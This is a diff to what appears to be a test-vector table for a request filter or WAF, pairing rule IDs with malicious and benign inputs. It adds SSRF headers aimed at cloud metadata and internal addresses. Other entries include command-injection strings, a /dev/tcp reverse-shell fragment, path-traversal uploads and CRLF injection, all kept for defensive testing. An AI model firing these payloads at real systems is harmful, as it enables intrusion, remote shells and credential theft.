@@ -109,6 +109,7 @@ V = {
  "rp-proto-022": ([uri("/get?param=foo%uFF01"), uri("/?p=%c0%af"), uri("/x/%uff0e%uff0e/")], [uri("/?q=%C3%A9t%C3%A9"), uri("/?p=%25uff01")]),
  "rp-rce-054": (["1;.shell whoami", ";\n.databases", "\\nid;", "a;\\n/bin/ls -al\\n", "cat /et*/*wd", "ls /v?r/l*g/", "d=/dev&&(sh)0>$d/tcp/203.0.113.9/777"], ["see section 1.2", "the *.txt files", "cat pictures/2024", "src/**/*.js", "(shell) scripts", "Line two\\nid card needed"]),
  "rp-lfi-009": ([upload("../1.7z"), upload("..\\\\..\\\\boot.ini"), upload("a/../../x.php")], [upload("report..final.pdf"), upload("a.b.c.txt"), upload("...txt")]),
+ "rp-ssrf-007": ([hdr("X-Callback", "http://169.254.169.254/latest/meta-data/"), hdr("Referer", "http://[::ffff:a9fe:a9fe]/admin"), hdr("X-Custom-Data", "http://172.17.0.1:11211/")], [hdr("Referer", "http://intranet/portal"), hdr("Referer", "https://example.com/page"), hdr("X-Forwarded-Proto", "https")]),
  "rp-probe-003": ([uri("/server-status"), uri("/wp-config.php"), uri("/actuator/env")], [uri("/status"), uri("/wp-content/uploads/a.png")]),
  "rp-proto-001": (["x\r\nSet-Cookie: a=b", "foo%0d%0aLocation: http://evil", "a\nhttp/1.1 200 OK"], ["line one", "100%"]),
  "rp-proto-002": ([hdr("X-Test", "a%0d%0aSet-Cookie: x=1"), hdr("X-Test", "a\r\nb")], [hdr("X-Test", "plain value"), hdr("Accept", "text/html")]),
